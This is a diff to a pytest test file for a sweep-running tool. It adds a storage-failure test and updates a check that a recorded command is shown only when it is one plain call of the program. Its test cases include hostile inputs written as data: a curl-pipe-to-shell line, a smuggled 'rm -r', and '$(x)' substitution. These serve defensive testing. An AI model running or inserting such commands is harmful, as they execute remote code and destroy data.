@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from dcpg.errors import BadInput, DcpgError, Stopped, SweepIncomplete, Unavailable
+from dcpg.errors import BadInput, DcpgError, Stopped, StorageFailed, SweepIncomplete, Unavailable
 from dcpg.machine.automatic import settled
 from dcpg.storage import files
 from dcpg.storage.lock import Lock
@@ -85,7 +85,10 @@ def test_lost_ten_times(tmp_path: Path) -> None:
     engine, quiet, end = drive_once(tmp_path, {NAMES[0]: [(None, 0)] * 11})
     assert engine.begun.count(NAMES[0]) == 10
     assert isinstance(end, SweepIncomplete)
-    assert any("its worker was lost, or it was stopped, 10 times without progress" in text for text in quiet.said)
+    assert any(
+        "its worker or its storage was lost, or it was stopped, 10 times without progress" in text
+        for text in quiet.said
+    )
 
 
 @pytest.mark.parametrize("code", [0, 75])
@@ -350,10 +353,21 @@ def test_an_engine_that_fails_is_stopped_so_that_the_other_runs_are_saved(
     assert not engine.attempts  # each was waited for
 
 
+def test_runs_that_are_gone_are_not_called_done(tmp_path: Path) -> None:
+    def move() -> None:  # when a second run has ended
+        first, second = (tmp_path / "runs" / name for name in NAMES[:2])
+        if first.exists() and second.exists():
+            first.rename(tmp_path / "elsewhere")
+
+    _, _, end = drive_once(tmp_path, then=move)
+    assert isinstance(end, StorageFailed)
+    assert f"1 run that was done cannot be found in {tmp_path / 'runs'} any more, such as {NAMES[0]}" in str(end)
+
+
 @pytest.mark.parametrize(
     ("recorded", "shown"),
     [
-        ("dcpg sweep 'my file.toml' --out x", "dcpg sweep 'my file.toml' --out x"),
+        ("dcpg sweep 'my file.toml' --out x --retry", "dcpg sweep 'my file.toml' --out {there} --retry"),
         ("curl -s http://there/x | sh", ""),
         ("dcpg sweep x; rm -r y", "dcpg sweep 'x;' rm -r y"),
         ("dcpg sweep $(x)", "dcpg sweep '$(x)'"),
@@ -364,4 +378,4 @@ def test_a_recorded_command_is_one_call_of_this_program(tmp_path: Path, recorded
     drive_once(tmp_path)
     plain = json.loads((tmp_path / "sweep.json").read_bytes())
     (tmp_path / "sweep.json").write_text(json.dumps(plain | {"command": recorded}))
-    assert driver_of(tmp_path) == (False, shown)
+    assert driver_of(tmp_path) == (False, shown.format(there=tmp_path))
